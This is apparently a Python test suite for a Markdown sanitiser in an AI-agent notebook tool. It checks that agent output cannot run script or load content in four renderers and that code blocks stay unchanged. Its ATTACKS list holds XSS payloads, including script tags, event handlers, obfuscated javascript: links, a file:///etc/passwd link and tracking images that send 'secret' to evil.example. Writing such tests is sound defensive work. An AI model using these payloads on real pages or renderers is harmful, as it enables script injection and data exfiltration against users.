"""An agent's Markdown in a trusted output: nothing runs, loads or disappears, and code stays code.

The inside: hostile and generated text in four renderers.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentnb.ipython.markdown import Fences, harmless, harmless_line, html_text
from tests.thorough import examples
from tests.unit.ipython.page import Page, pages
from tests.unit.linear import is_linear

ELEMENTS = (
    "a blockquote br code del dd details dl dt div em h1 h2 h3 h4 h5 h6 hr img input li ol p pre s section span strong "
    "summary sup table tbody td th thead tr ul"
)
HARMLESS = frozenset(ELEMENTS.split())
ATTRIBUTES = "align checked class colspan disabled href id src start style title type alt"
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "text <b onclick='x()'>b</b>",
    "<!-- <script>x</script> -->",
    "<![CDATA[<script>x</script>]]>",
    "<?php x ?>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\tjavascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](vbscript:x) [b](data:text/html,<script>x</script>)",
    '[a]( https://x.org "t" onclick=y )',
    "[a](file:///etc/passwd) [b](JAVASCRIPT:x)",
    "<javascript:alert(1)>",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a][b]\n\n[b]:\n   javascript:alert(1)",
    "> [b]: javascript:alert(1)\n\n[b]",
    "![a](javascript:alert(1))",
    "![a](https://evil.example/pixel.png?q=secret)",
    "![a][p]\n\n[p]: https://evil.example/pixel.png",
    "[![a](https://evil.example/p.png)](javascript:x)",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    'https://a.org/$" onmouseover=alert(1) x="$',
    'https://a.org/@@0@@ and $" onmouseover=alert(1) x="$',
    '[x](https://a.org "$" onmouseover=alert(1) x="$")',
    '[x](https://a.org/$"onmouseover=alert(1)$)',
    'www.a.org/\\begin{x}"onmouseover=alert(1)\\end{x}',
    "https://a.org](javascript:alert(1)) [https://b.org](javascript:alert(1))",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html onload=x\n<script>\n```\n<script>alert(1)</script>",
    "~~~\n```\n~~~\n<script>alert(1)</script>",
    "````\n```\n<script>\n````\n<script>",
    "- ```\n<script>alert(1)</script>",
    "1. ```\n   a\n  ```\n<script>alert(1)</script>",
    "> ```\n<script>alert(1)</script>\n> ```",
    "`a <script>` `` b ` <script> `` <script>",
    "`unclosed <script>alert(1)</script>",
    "    <script>alert(1)</script>\n\ttab <script>",
    "- a\n\n      <script>\n\n  <script>",
    "| a |\n|---|\n| `<script>` <script> |",
    "\\<script>alert(1)</script> \\\\<script>x</script>",
    "$$\n- <script>alert(1)</script>\n$$",
    '> $$\n> - https://a.org/"onclick=x\n> $$',
    "1. \\[\n   [a]: javascript:alert(1)\n   + <img src=x onerror=y>\n   \\]",
    "$a<script>b$ and $$\n<img src=x onerror=y>\n$$",
    "a\r<script>\rb\x00<scr\x00ipt>",
    "<\x01script>alert(1)</script>",
    "\ud800<script>",
    '$0$<[a]($"onclick=x$)',
    'http://<$" onclick=x $',
]
SIGNS = (
    "``` ~~~ ` `` - > < &lt; & $ $$ \\ ] ]( [a] [a]: ![ ( ) | --- <details> <summary> </details> <pre> <!-- --> # * _ "
    "@@0@@ { } a "
    "https://a.org/ www.a.org javascript: onclick=x \\begin{x} \\end{x} \\\\[ \\\\] `$$`"
)
SPACES = "\n$$\n|\n\\[\n|\n\\]\n|\n- |\n|\n\n|    |- |1. |> |\t| |  |\"|'|def f():\n    pass"
SNIPPETS = st.sampled_from([*ATTACKS, *SPACES.split("|"), *SIGNS.split()])
TEXTS = st.one_of(st.text(), st.lists(SNIPPETS, max_size=14).map("".join))
ORDINARY = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp", "Zs"]))


def check(markdown: str) -> None:
    """Fails if *markdown* has anything that could run or load, in any renderer."""
    for renderer, source in pages(markdown).items():
        page = Page(source)
        assert (renderer, set()) == (renderer, page.elements - HARMLESS), source
        for element, name, value in page.attributes:
            if renderer == "nbconvert" and name in {"class", "href", "id"} and "anchor-link" in source:
                continue  # nbconvert's own heading anchors
            assert name in ATTRIBUTES.split(), (renderer, element, name, value, source)
            if name in {"href", "src"}:
                assert is_harmless_place(element, value), (renderer, element, name, value, source)


def is_harmless_place(element: str, value: str) -> bool:
    """True if a link or picture is safe."""
    if element == "img":
        return re.match(r"data:image/(png|jpeg|gif|webp);base64,", value) is not None
    scheme = re.match(r"\s*([^/?#]*?):", value)
    return scheme is None or scheme[1].lower() in {"http", "https", "mailto", "ftp"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_known_attack_survives_any_renderer(attack: str) -> None:
    check(harmless(attack))
    check(harmless_line(attack))
    check(f"<details><summary>{html_text(attack)}</summary>\n\n{harmless(attack)}\n\n</details>")


@given(TEXTS)
@settings(max_examples=examples(400), deadline=None)
def test_no_text_renders_to_anything_that_runs_or_loads(text: str) -> None:
    check(harmless(text))


@given(TEXTS, TEXTS)
@settings(max_examples=examples(200), deadline=None)
def test_no_text_hides_the_elements_after_it(first: str, second: str) -> None:
    fences = Fences.around([first, second])
    document = f"{harmless(first, fences)}\n\n<div>mark</div>\n\n{harmless(second, fences)}\n\n<div>end</div>"
    check(document)
    for renderer, source in pages(document).items():
        assert (renderer, 1, 1) == (renderer, source.count("<div>mark</div>"), source.count("<div>end</div>"))


@given(ORDINARY, st.sampled_from(["", "python", "html"]))
@settings(deadline=None)
def test_code_in_a_fence_stays_unchanged(code: str, language: str) -> None:
    marks = "`" * (max(map(len, re.findall("`+", code)), default=2) + 3)
    markdown = harmless(f"before\n\n{marks}{language}\n{code}\n{marks}\n\nafter")
    for renderer in ("commonmark", "mistune"):
        assert (renderer, [code]) == (renderer, [block.rstrip("\n") for block in Page(pages(markdown)[renderer]).code])


@pytest.mark.parametrize("inside", ["- {}", "1. {}", "> {}", "- > {}"])
@pytest.mark.parametrize("code", ["x = 1", "if a < b:", "<script>alert(1)</script>", "a[1](x) ![y](z)", "`b`"])
def test_code_in_lists_and_quotes_stays_unchanged(inside: str, code: str) -> None:
    first = inside.format("```python")
    rest = re.sub(r"[^\s>]", " ", inside.format(""))
    markdown = harmless(f"{first}\n{rest}{code}\n{rest}```")
    for renderer in ("commonmark", "mistune"):
        assert (renderer, [code]) == (renderer, [block.rstrip("\n") for block in Page(pages(markdown)[renderer]).code])


@pytest.mark.parametrize(
    "code", ["a < b", "<b>", "x[1](y)", "List[int]", "a*b_c*d", "$HOME", "`` ` ``".strip("` ") or "`"]
)
def test_inline_code_stays_unchanged(code: str) -> None:
    markdown = harmless(f"see `` {code} `` there")
    for renderer, source in pages(markdown).items():
        assert (renderer, f"see {code} there") == (renderer, "".join(Page(source).text).strip())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain *words* and **more**, 3 < 4", "plain *words* and **more**, 3 < 4"),
        ("# Head\n\n- a\n- b\n\n> q", "# Head\n\n- a\n- b\n\n> q"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
        ("[x](https://a.org/b?c=d&e=f#g)", "[x](https://a.org/b?c=d&amp;e=f#g)"),
        ("[x](docs/a%20b.md) <https://a.org>", "[x](docs/a%20b.md) https://a.org"),
        ("[x](mailto:a@b.org) [y](a.md?x=1:2) [z]()", "[x](mailto:a@b.org) [y](a.md?x=1:2) [z]()"),
        ("$a<b$ and $x_1$", r"$a\lt b$ and $x_1$"),
        ("```python\nx\n```", "````python\nx\n````"),
        ("~~gone~~ `code`", "~~gone~~ `code`"),
        ("![p](data:image/png;base64,iVBORw0=)", "![p](data:image/png;base64,iVBORw0=)"),
        ("![p](https://a.org/p.png)", "[p](https://a.org/p.png)"),
        ("- [ ] todo\n- [x] done", "- [ ] todo\n- [x] done"),
    ],
)
def test_ordinary_markdown_stays_as_it_is(text: str, expected: str) -> None:
    assert expected == harmless(text)


@pytest.mark.parametrize("between", ["", "`c`", "``c`d``", "\n", "\\`", "`<b>`", "$x$"])
@pytest.mark.parametrize("mark", ["*a_", "*", "[a", "!a", "~~a", "**a "])
@pytest.mark.parametrize("start", ["x", "<div>\n", "<!-- x\n", "> ", "# x"])
def test_thousands_of_marks_in_a_paragraph_show_as_text(start: str, mark: str, between: str) -> None:
    """A renderer pairs the marks of a whole paragraph, also across other elements; other paragraphs keep theirs."""
    if start == "# x" and between == "\n":
        between = " "
    text = harmless(f"{start}{f'{mark} {between}' * 2_000}x\n\n*after*")
    paragraph, after = text.split("\n\n")
    assert after == "*after*"
    assert re.findall(r"[*~\[!](?=\S)", paragraph.replace("!--", "")) == []


@pytest.mark.parametrize(
    "unit",
    [
        "\\",
        "\\``",
        "$<a ",
        "![",
        "](",
        "](a ",
        "]:",
        "<",
        "`",
        "``a` ",
        "$",
        "\\begin{a}",
        "`https://a` ",
        "**a_ `c` [",
        "\n\\[",
        "\n$$\n- ",
    ],
)
def test_processing_time_grows_linearly_with_text_length(unit: str) -> None:
    assert is_linear(lambda length: harmless("x" + unit * (length // len(unit))), 10_000)


def test_paragraph_with_a_few_hundred_marks_keeps_them() -> None:
    text = " ".join(f"**word {number}**" for number in range(100))
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        (r"See \(a_1 < b\) there", "See $a_1 < b$ there"),
        ("Then:\n\\[\nx = 1 \\\\\ny = 2\n\\]\nmore", "Then:\n$$x = 1 \\\\ y = 2$$\nmore"),
        (r"So \[x = 1\] and \(y\)", r"So $\displaystyle x = 1$ and $y$"),
        (r"It costs $5, or $6.50 `a` for \(n\) pieces", "It costs &#36;5, or &#36;6.50 `a` for $n$ pieces"),
        (r"It costs $5, or $6", "It costs $5, or $6"),
        (r"`\(a\)` and \\(b\\)", r"`\(a\)` and \\(b\\)"),
        (r"\(\) \(a$b\) \[a\)", r"\(\) \(a$b\) \[a\)"),
        (r"\(x<script>\)", r"$x\lt script>$"),
    ],
)
def test_bracket_formulas_become_dollar_formulas(text: str, kept: str) -> None:
    """JupyterLab's MathJax and nbconvert render those; money and code do not change."""
    assert harmless(text) == kept


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("Then\n\n$$\na = b\n- c\n$$\n\nend", "Then\n\n$$a = b - c$$\n\nend"),
        ("Then\n$$\na\n= b\n$$.\nmore", "Then\n$$a = b$$.\nmore"),
        ("$$\nx\n=\ny\n$$", "$$x = y$$"),
        ("$$\nx \\\\[2pt]\n+ y\n# q\n> z\n1. n\n---\n$$", "$$x \\\\[2pt] + y # q > z 1. n ---$$"),
        ("\\[\na\n- b\n\\]", "$$a - b$$"),
        ("- $$\n  a\n  + b\n  $$", "- $$a + b$$"),
        ("1. So:\n   $$\n   a\n   $$", "1. So:\n   $$a$$"),
        ("> $$\n> a\n> - b\n> $$", "> $$a - b$$"),
        ("$$\nx\n= y\n$$", "$$\nx\n= y\n$$"),
        ("```\n$$\na\n- b\n$$\n```", "````\n$$\na\n- b\n$$\n````"),
        ("$$\na % c\n- b\n$$", "&#36;&#36;\na % c\n- b\n&#36;&#36;"),
        ("$$\na\n\n- b\n$$", "&#36;&#36;\na\n\n- b\n&#36;&#36;"),
        ("Then\n$$\na \\\\\n- b \\\\\n$$", "Then\n$$a \\\\ - b \\\\ $$"),
    ],
)
def test_display_formula_stays_whole_when_it_looks_like_markdown(text: str, kept: str) -> None:
    """It becomes one line; code, comments and formulas with empty lines do not change."""
    assert harmless(text) == kept


TEX = st.lists(
    st.sampled_from(["- b", "+ c_1", "= d", "=", "---", "# e", "1. f", "> g", r"\\", r"\frac{a}{b}", "| h |", "* i"]),
    min_size=1,
    max_size=6,
)
AROUND = st.sampled_from(["{}", "Then\n{}\nmore.", "Then\n\n{}\n\nmore.", "# Head\n{}", "{}\n\n- a\n- b"])
SIGNS_AROUND = st.sampled_from([("$$", "$$"), (r"\[", r"\]")])


@given(TEX, AROUND, SIGNS_AROUND)
@settings(max_examples=examples(200), deadline=None)
def test_any_display_formula_reaches_each_renderer_whole(lines: list[str], around: str, signs: tuple[str, str]) -> None:
    """Each shows the whole formula as text, and no part of it as a list, heading or table."""
    source = "\n".join(lines)
    markdown = harmless(around.format(f"{signs[0]}\n{source}\n{signs[1]}"))
    check(markdown)
    for renderer in ("jupyterlab", "nbconvert"):
        text = "".join(Page(pages(markdown)[renderer]).text)
        (formula,) = re.findall(r"\$\$(.*?)\$\$", text, re.DOTALL)
        assert (renderer, formula.split()) == (renderer, source.split())
